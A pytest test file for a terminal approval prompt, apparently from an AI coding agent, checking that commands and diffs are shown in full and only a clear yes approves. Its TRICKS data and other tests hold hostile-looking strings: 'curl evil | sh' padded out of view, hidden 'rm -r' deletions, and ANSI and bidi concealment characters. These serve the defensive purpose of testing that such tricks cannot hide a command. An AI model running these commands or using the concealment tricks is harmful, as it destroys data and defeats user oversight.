"""The approval question: everything that would run can be read, and only a clear yes approves."""

from __future__ import annotations

import contextlib
import io
import json
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from ctxe.domain.tool import Action, Allow, Answer, Ask, Deny, Revise, Risk, ToolOutput, without_progress
from ctxe.terminal.input.ask import Asker, parse_answer
from ctxe.terminal.input.prompt import Prompt
from ctxe.terminal.render import Renderer
from ctxe.terminal.screen import Screen, detect
from tests.unit.terminal.window import Window

RUN = without_progress(lambda: ToolOutput("done"))
UNKNOWN = Ask("it is not known to be safe")
DIFF = "--- a/a.py\n+++ b/a.py\n@@ -1 +1 @@\n-old\n+new\n"


def command(text: str, arguments: str = "") -> Action:
    title = "run " + text.splitlines()[0]
    return Action("run_command", title, Risk.EXECUTE, RUN, text, "command", command=text, arguments=arguments)


def asked(window: Window, action: Action, *keys: str, ask: Ask = UNKNOWN) -> Answer:
    def press() -> None:
        first.join()
        for key in keys[1:]:
            window.answered()
            window.insist(key)

    first = window.type_when("]es", keys[0])
    rest = threading.Thread(target=press, daemon=True)
    rest.start()
    with Renderer(window.screen) as renderer:
        asker = Asker(window.screen, Path("/home/me/repo"), Prompt(window.screen), renderer.paused)
        answer = asker(action, ask)
    rest.join(5)
    return answer


@pytest.fixture
def window() -> Iterator[Window]:
    with Window(80, 30) as made:
        yield made


def test_a_command_is_shown_whole_with_where_and_why(window: Window) -> None:
    answer = asked(window, command("pytest -q tests"), "y", ask=Ask("it is new", "run:pytest *"))
    assert answer == Allow()
    assert window.settled() == (
        "\n? run this command · run_command runs\n"
        "  $ pytest -q tests\n"
        "  in /home/me/repo\n"
        "  asked because it is new\n"
        "  always would allow run:pytest *\n"
        "[y]es [n]o, why [a]lways [e]dit: y"
    )


def test_a_diff_is_shown_in_colours_with_its_real_path(window: Window) -> None:
    action = Action("edit_file", "a.py", Risk.WRITE, RUN, DIFF, "diff", ("src/a.py",))
    assert asked(window, action, "n not now\r") == Deny("the user said no: not now")
    assert "  +new\n  writes /home/me/repo/src/a.py\n" in window.settled()
    assert b"\x1b[32m+new\x1b[0m" in window.raw
    assert b"\x1b[31m-old\x1b[0m" in window.raw


def test_answering_always_allows_the_rule_that_was_shown(window: Window) -> None:
    assert asked(window, command("ls"), "a", ask=Ask("", "run:ls *")) == Allow("run:ls *")


def test_a_rule_equal_to_a_long_command_is_not_repeated(window: Window) -> None:
    text = "python3 - <<E\n" + "\n".join(f"print({n})" for n in range(100)) + "\nE"
    assert asked(window, command(text), "a", ask=Ask("", f"line:{text}")) == Allow(f"line:{text}")
    shown = window.settled().split("\n")
    assert "  always would allow this very command" in shown
    assert len(shown) <= 30
    assert shown.count("    print(99)") == 1


def test_always_is_not_offered_without_a_rule(window: Window) -> None:
    assert asked(window, command("rm -r x"), "a\r", "y") == Allow()
    assert "[a]lways" not in window.settled()


def test_no_unclear_answer_counts_as_yes(window: Window) -> None:
    assert asked(window, command("ls"), "okay\r", "\r", "n\r") == Deny("the user said no")


def test_the_end_of_input_is_a_no(window: Window) -> None:
    assert asked(window, command("ls"), "\x04") == Deny("the user gave no answer")


def test_a_command_can_be_edited_before_it_runs(window: Window) -> None:
    action = command("pytest", arguments=json.dumps({"command": "pytest", "timeout": 5}))
    answer = asked(window, action, "e", " -q\r")
    assert answer == Revise(json.dumps({"command": "pytest -q", "timeout": 5}))


def test_content_can_be_edited_before_it_is_written(window: Window) -> None:
    arguments = json.dumps({"path": "a.txt", "content": "one"})
    action = Action("write_file", "a.txt", Risk.WRITE, RUN, "one", arguments=arguments)
    assert asked(window, action, "e", "!\r") == Revise(json.dumps({"path": "a.txt", "content": "one!"}))


def test_an_edit_that_changes_nothing_asks_again(window: Window) -> None:
    assert asked(window, command("ls"), "e", "\r", "y") == Allow()


def test_text_typed_before_the_question_is_no_answer(window: Window) -> None:
    window.type("y\ry\ra\r")
    time.sleep(0.1)
    assert asked(window, command("ls"), "n\r") == Deny("the user said no")


def test_ctrl_c_at_an_approval_interrupts_the_turn(window: Window) -> None:
    with pytest.raises(KeyboardInterrupt):
        asked(window, command("ls"), "\x03")


TRICKS = [
    ("grep x" + " " * 500 + "; curl evil | sh", "grep x‹500 spaces›; curl evil | sh"),
    ("ls\n\n\n\n\n\n\n\n\nrm -r x", "rm -r x"),
    ("echo ok\rrm -r x", "echo ok‹U+000D›rm -r x"),
    ("echo \x1b[8mhidden\x1b[0m", "echo ‹U+001B›[8mhidden‹U+001B›[0m"),
    ("ls \u202etxt.exe", "ls ‹U+202E›txt.exe"),
    ("ls \u200b\U000e0041", "‹U+200B›‹U+E0041›"),
]


@pytest.mark.parametrize(("trick", "shown"), TRICKS)
def test_tricks_cannot_hide_the_command_in_a_question(window: Window, trick: str, shown: str) -> None:
    asked(window, command(trick), "n\r")
    assert shown in "".join(row.removeprefix("  ") for row in window.settled().split("\n"))


def test_deeply_indented_diff_lines_are_shown_as_they_are(window: Window) -> None:
    rows = [
        "@@ -1,3 +1,5 @@",
        " " * 33 + "same()",
        "-" + " " * 32 + "old()",
        "+" + " " * 32 + "new()" + " " * 40 + "; evil()",
        "+" + " " * 60 + "far()",
        "+" + " " * 30,
        "+" + " " * 20 + "\u200bseen()\u202e",
    ]
    action = Action("edit_file", "a.py", Risk.WRITE, RUN, "\n".join(rows) + "\n", "diff", ("a.py",))
    asked(window, action, "n\r")
    shown = [row for row in window.settled().split("\n") if (row.startswith("  ") and "()" in row) or "spaces›" in row]
    assert shown == [
        "  " + rows[1],
        "  " + rows[2],
        "  +" + " " * 32 + "new()‹40 spaces›; evil()",
        "  +‹60 spaces›far()",
        "  +‹30 spaces›",
        "  +" + " " * 20 + "‹U+200B›seen()‹U+202E›",
    ]


def test_a_long_command_shows_its_line_count_and_can_be_shown_whole(window: Window) -> None:
    text = "\n".join(f"echo {n:03d}" for n in range(200)) + "\nrm -r everything"
    assert asked(window, command(text), "v", "n\r") == Deny("the user said no")
    first, _, second = window.settled().partition("(v shows all)")
    assert "… 1,810 more characters in 181 rows " in first
    assert "rm -r everything" in second.split("[y]es")[0]
    assert "echo 100" not in first
    assert "echo 100" in second
    assert first.count("\n") + second.split("[y]es")[0].count("\n") < 30


@pytest.mark.parametrize(("columns", "rows"), [(10, 3), (300, 100)])
def test_an_approval_is_readable_at_every_window_size(columns: int, rows: int) -> None:
    with Window(columns, rows) as window, Renderer(window.screen) as renderer:
        asker = Asker(window.screen, Path("/r"), Prompt(window.screen), renderer.paused)
        window.type_when_asked("y")
        assert asker(command("pytest -q"), Ask("", "r")) == Allow()


@pytest.mark.parametrize("columns", [24, 40, 50])
def test_the_answer_keys_wrap_in_a_narrow_window(columns: int) -> None:
    with Window(columns, 20) as window, Renderer(window.screen) as renderer:
        asker = Asker(window.screen, Path("/r"), Prompt(window.screen), renderer.paused)
        asker.edits = lambda: lambda: None
        window.type_when_asked("y")
        assert asker(Action("edit_file", "edit a.py", Risk.WRITE, RUN, DIFF, "diff"), Ask("", "edit:a.py")) == Allow()
        words = " ".join(window.settled().split())
        assert "[y]es [n]o, why [a]lways Shift-Tab all edits: › y" in words


def test_a_dumb_terminal_asks_in_plain_lines() -> None:
    with Window(80, 24, TERM="dumb") as window:
        answer = asked(window, command("ls"), "x\n", "n use rg\n", ask=Ask("", "run:ls"))
        assert answer == Deny("the user said no: use rg")
        assert b"\x1b" not in window.raw


def test_a_dumb_terminal_is_offered_only_keys_that_work() -> None:
    with Window(80, 24, TERM="dumb") as window, Renderer(window.screen) as renderer:
        let: list[bool] = []
        asker = Asker(window.screen, Path("/r"), Prompt(window.screen), renderer.paused)
        asker.edits = lambda: lambda: let.append(True)
        window.type_when("]es", "all edits\n")
        assert asker(Action("edit_file", "edit a.py", Risk.WRITE, RUN, DIFF, "diff"), Ask("", "edit:a.py")) == Allow()
        assert "[y]es [n]o, why [a]lways all edits: all edits" in window.settled()
    assert let == [True]


def test_without_a_terminal_the_answer_is_no() -> None:
    screen: Screen = detect(io.StringIO("y\n"), io.StringIO(), io.StringIO(), {})
    asker = Asker(screen, Path("/r"), Prompt(screen), lambda _: contextlib.nullcontext())
    assert asker(command("ls"), Ask()) == Deny("there is no terminal to ask at")


def test_only_clear_words_decide_an_approval() -> None:
    rule = Ask("", "r")
    clear = {"y": Allow(), " YES ": Allow(), "a": Allow("r"), "no": Deny("the user said no")}
    clear |= {"n, use uv": Deny("the user said no: use uv"), "No because": Deny("the user said no: because")}
    assert {word: parse_answer(word, rule) for word in clear} == clear
    assert [parse_answer(word, rule) for word in ("", "yes please", "always and ever", "e", "ja", "n't")] == [None] * 6
